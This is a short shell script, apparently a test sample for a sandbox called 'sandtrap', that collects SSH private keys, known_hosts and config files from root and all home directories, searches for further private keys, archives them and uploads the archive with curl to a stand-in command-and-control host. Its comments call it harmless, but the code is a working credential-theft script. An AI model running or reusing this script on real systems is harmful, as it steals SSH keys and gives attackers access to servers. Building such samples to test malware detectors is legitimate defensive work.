#!/bin/sh
# Stealing ssh private keys: finds id_* keys in every home, archives them with known_hosts and config, and uploads them.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
out=/tmp/.k; mkdir -p $out
for f in /root/.ssh/id_* /home/*/.ssh/id_* /home/*/.ssh/known_hosts /home/*/.ssh/config; do
  [ -f "$f" ] && cp "$f" "$out/$(echo "$f" | tr / _)"
done
grep -l 'PRIVATE KEY' -r /home /root /etc/ssh 2>/dev/null
tar czf /tmp/.k.tgz -C $out .
curl -s -F "f=@/tmp/.k.tgz" http://keys.c2.example/upload >/dev/null
ls $out
